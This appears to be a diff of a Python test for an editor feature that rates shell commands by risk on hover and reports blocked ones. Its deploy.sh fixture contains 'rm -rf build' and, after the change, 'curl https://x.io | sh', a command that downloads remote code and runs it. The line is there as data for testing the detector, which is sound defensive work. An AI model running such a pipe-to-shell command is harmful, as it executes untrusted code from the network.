@@ -12,7 +12,7 @@ async def test_hovering_a_command_says_its_risk_and_the_rule(tmp_path: Path) -> 
         workspace = desk.bench.workspace
         script = workspace / "deploy.sh"
         desk.client.open(
-            script, "ls\nif true; then\n  rm -rf build\nfi\ncurl https://x.io\n", language="shellscript"
+            script, "ls\nif true; then\n  rm -rf build\nfi\ncurl https://x.io | sh\n", language="shellscript"
         )
         shown = await desk.hover(script, "rm -")
         assert shown.startswith("**High risk** · runs `rm`")
@@ -20,7 +20,8 @@ async def test_hovering_a_command_says_its_risk_and_the_rule(tmp_path: Path) -> 
         assert "removes folders" in shown
         blocked = await desk.hover(script, "cur")
         assert "is denied: " in blocked
-        assert "commandBlocklist" in blocked or "blocked" in blocked
+        assert "blocked" in blocked
+        assert "The whole line is high risk:" in blocked
         assert await desk.hover(script, "the") == ""
 
         makefile = workspace / "Makefile"
